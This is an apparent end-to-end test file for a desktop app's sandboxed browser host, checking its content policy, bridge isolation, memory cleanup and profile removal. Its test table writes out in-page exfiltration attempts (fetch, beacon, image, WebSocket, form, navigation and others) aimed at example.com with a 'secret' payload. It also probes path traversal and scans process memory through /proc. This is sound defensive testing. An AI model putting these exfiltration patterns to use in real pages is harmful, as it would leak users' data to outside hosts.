/** The browser host in a real browser: what the page gets, what it cannot do, and what is left behind. */
import { execFileSync } from 'node:child_process';
import { closeSync, existsSync, mkdtempSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Page } from 'playwright-core';
import { openBrowserHost, type BrowserHost, type BrowserWindow } from '../../src/main/hosts/browser.ts';
import { findBrowser } from '../../src/main/hosts/find-browser.ts';
import { ok } from '../../src/shared/errors/failure.ts';
import { builtPage } from '../hosts/built-page.ts';
import { traversalCorpus } from '../hosts/traversal-corpus.ts';

describe.runIf(process.env['E2E_HOST'] !== 'electron')('the browser host', () => {
  const downloadsFolder = mkdtempSync(join(tmpdir(), 'hedgerow downloads '));
  const calls = { handle: vi.fn(async (...args: unknown[]) => ok(args)), lockIfOpen: vi.fn() };
  let host: BrowserHost;
  let opened: BrowserWindow;
  let page: Page;

  beforeAll(async () => {
    const executable = findBrowser();
    if (executable === null) throw new Error('no browser');
    host = openBrowserHost({
      executable,
      rendererFolder: builtPage(),
      coreEntry: 'not used here',
      headless: process.env['HEDGEROW_HEADLESS'] === '1',
      downloadsFolder,
    });
    opened = await host.openWindow(calls);
    page = opened.page;
  });
  afterAll(() => opened.close());

  /** What was refused while `attempt` ran in the page. */
  async function refusedBy(attempt: () => unknown): Promise<string[]> {
    vi.spyOn(process.stderr, 'write').mockReturnValue(true);
    const before = host.blocked.list.length;
    await page.evaluate(attempt);
    await expect.poll(() => host.blocked.list.length).toBeGreaterThan(before);
    vi.restoreAllMocks();
    return host.blocked.list.slice(before).map(({ origin, type }) => `${type} ${origin}`);
  }

  it('serves the page under our own policy, with the bridge in place before its scripts', async () => {
    expect(page.url()).toBe('https://hedgerow.localhost/');
    expect(await page.evaluate(() => document.body.dataset['ready'])).toBe('object');
    expect(await page.getAttribute('meta[name=csp-nonce]', 'content')).toMatch(/^[A-Za-z0-9+/]{22}==$/u);
  });

  it('gives the page one call and one subscription, which it cannot replace', async () => {
    expect(await page.evaluate(() => Object.keys(window.hedgerow))).toEqual(['call', 'onPush']);
    const replaced = await page.evaluate(() => {
      try {
        Object.assign(window, { hedgerow: 1 });
      } catch {
        // Refused.
      }
      return [typeof window.hedgerow, Object.isFrozen(window.hedgerow)];
    });
    expect(replaced).toEqual(['object', true]);
  });

  it('carries calls and pushes', async () => {
    expect(await page.evaluate(() => window.hedgerow.call('ledger.status', { a: 1 }, 'id'))).toEqual(
      ok(['ledger.status', { a: 1 }, 'id']),
    );
    const heard = page.evaluate(() => new Promise((resolve) => void window.hedgerow.onPush(resolve)));
    await page.evaluate(() => undefined);
    opened.push({ type: 'locked', reason: 'idle' });
    expect(await heard).toEqual({ type: 'locked', reason: 'idle' });
  });

  it.runIf(process.platform === 'linux')(
    'forgets with its process what a page knew, in the same window and without a way back',
    async () => {
      // Put together in the page, so that no command that the browser reads holds it whole.
      await page.evaluate(() => {
        Object.assign(window, { known: ['known only to', 'the old page', String(Math.PI)].join(' # ') });
      });
      const known = `known only to # the old page # ${Math.PI}`;
      const holders = renderersHolding(known);
      expect(holders).toHaveLength(1);
      await page.evaluate(() => void (location.hash = '#/holdings?asset=BTC'));
      await opened.renewPage();
      expect(renderersHolding(known)).toEqual([]);
      await expect.poll(() => existsSync(`/proc/${holders[0]}`)).toBe(false);
      expect(opened.page).toBe(page);
      expect(page.url()).toBe('https://hedgerow.localhost/#/holdings');
      expect(await page.evaluate(() => document.body.dataset['ready'])).toBe('object');
      expect(await page.evaluate(() => history.length)).toBe(1);
      expect(await page.evaluate(() => window.hedgerow.call('ledger.status', {}, 'new'))).toEqual(
        ok(['ledger.status', {}, 'new']),
      );
      await page.evaluate(() => history.replaceState(null, '', '/'));
    },
  );

  it.each<[string, () => unknown, RegExp]>([
    [
      'fetch',
      () => fetch('https://example.com/?secret').catch(() => 0),
      /connect-src https:\/\/example.com$/u,
    ],
    [
      'beacon',
      () => navigator.sendBeacon('https://example.com/?secret'),
      /connect-src https:\/\/example.com$/u,
    ],
    [
      'image',
      () => void (new Image().src = 'https://example.com/?secret'),
      /img-src https:\/\/example.com$/u,
    ],
    [
      'script',
      () =>
        document.head.append(
          Object.assign(document.createElement('script'), { src: 'https://example.com/x.js' }),
        ),
      /script-src-elem https:\/\/example.com$/u,
    ],
    ['socket', () => void new WebSocket('wss://example.com/?secret'), /wss:\/\/example.com$/u],
    [
      'frame',
      () =>
        document.body.append(
          Object.assign(document.createElement('iframe'), { src: 'https://example.com/' }),
        ),
      /https:\/\/example.com$/u,
    ],
    [
      'form',
      () =>
        document.body
          .appendChild(Object.assign(document.createElement('form'), { action: 'https://example.com/' }))
          .submit(),
      /https:\/\/example.com$/u,
    ],
    [
      'navigation',
      () => void (location.href = 'https://example.com/?secret'),
      /^document https:\/\/example.com$/u,
    ],
    ['popup', () => void open('https://example.com/?secret'), /^document https:\/\/example.com$/u],
  ])(
    'refuses and counts a %s to elsewhere, without writing down what it carried',
    async (_, attempt, expected) => {
      const refused = await refusedBy(attempt);
      expect(refused.join('\n')).toMatch(expected);
      expect(refused.join()).not.toContain('secret');
      expect(page.url()).toBe('https://hedgerow.localhost/');
    },
  );

  it('has no second window', async () => {
    await page.evaluate(() => void open('about:blank'));
    await expect.poll(() => page.context().pages().length).toBe(1);
  });

  it('serves nothing beside the build', async () => {
    const statuses = await page.evaluate(
      async (paths: string[]) => {
        const found: string[] = [];
        for (const path of paths) {
          const link = document.createElement('link');
          link.rel = 'stylesheet';
          link.href = `https://hedgerow.localhost${path}`;
          const loaded = new Promise<boolean>((resolve) => {
            link.addEventListener('load', () => resolve(true));
            link.addEventListener('error', () => resolve(false));
          });
          document.head.append(link);
          if (await loaded) found.push(path);
          link.remove();
        }
        return found;
      },
      traversalCorpus()
        .filter((_, n) => n % 10 === 0)
        .concat('/main/index.js', '/assets/app.js.map'),
    );
    expect(statuses).toEqual([]);
  });

  it('saves what the page makes, and says nothing of a path to the page', async () => {
    vi.spyOn(process.stderr, 'write').mockReturnValue(true);
    await page.evaluate(() => {
      const href = URL.createObjectURL(new Blob(['lot,gain\n']));
      Object.assign(document.createElement('a'), { href, download: 'lots.csv' }).click();
    });
    await expect.poll(() => readdirSync(downloadsFolder)).toEqual(['lots.csv']);
    await expect.poll(() => readFileSync(join(downloadsFolder, 'lots.csv'), 'utf8')).toBe('lot,gain\n');
    vi.restoreAllMocks();
  });

  it.runIf(process.platform === 'linux')(
    'opens no port, keeps the sandbox unless root, and a private profile',
    () => {
      const lines = execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' }).split('\n');
      const browser =
        lines.find(
          (line) =>
            line.includes('--remote-debugging-pipe') && line.includes(`hedgerow-window-${process.pid}-`),
        ) ?? '';
      expect(browser).not.toMatch(/--remote-debugging-port|--enable-automation/u);
      expect(browser.includes('--no-sandbox')).toBe(process.getuid?.() === 0);
      expect(browser).toContain('--host-resolver-rules=MAP * ~NOTFOUND');
    },
  );

  it('leaves nothing behind', async () => {
    const profile =
      readdirSync(tmpdir()).find((name) => name.startsWith(`hedgerow-window-${process.pid}-`)) ?? '';
    expect(profile).not.toBe('');
    await opened.close();
    await opened.closed;
    expect(existsSync(join(tmpdir(), profile))).toBe(false);
  });
});

/** The renderer processes of this machine in whose memory a text lies; Chromium keeps text of Latin letters in one byte each. */
function renderersHolding(text: string): number[] {
  return readdirSync('/proc')
    .map(Number)
    .filter((pid) => pid > 0 && isRenderer(pid) && holds(pid, Buffer.from(text)));
}

function isRenderer(pid: number): boolean {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer');
  } catch {
    return false; // It has ended.
  }
}

function holds(pid: number, text: Buffer): boolean {
  let memory: number | undefined;
  try {
    const maps = readFileSync(`/proc/${pid}/maps`, 'utf8');
    memory = openSync(`/proc/${pid}/mem`, 'r');
    for (const [, from = '', to = ''] of maps.matchAll(/^([\da-f]+)-([\da-f]+) rw/gmu)) {
      if (rangeHolds(memory, BigInt(`0x${from}`), BigInt(`0x${to}`), text)) return true;
    }
    return false;
  } catch {
    return false; // It has ended.
  } finally {
    if (memory !== undefined) closeSync(memory);
  }
}

function rangeHolds(memory: number, from: bigint, to: bigint, text: Buffer): boolean {
  const chunk = Buffer.alloc(1 << 22);
  for (let at = from; at < to; at += BigInt(chunk.length - text.length)) {
    const length = Math.min(chunk.length, Number(to - at));
    try {
      const read = readSync(memory, chunk, 0, length, at);
      if (chunk.subarray(0, read).includes(text)) return true;
    } catch {
      return false; // Reserved, and never written to.
    }
    if (length < chunk.length) return false;
  }
  return false;
}
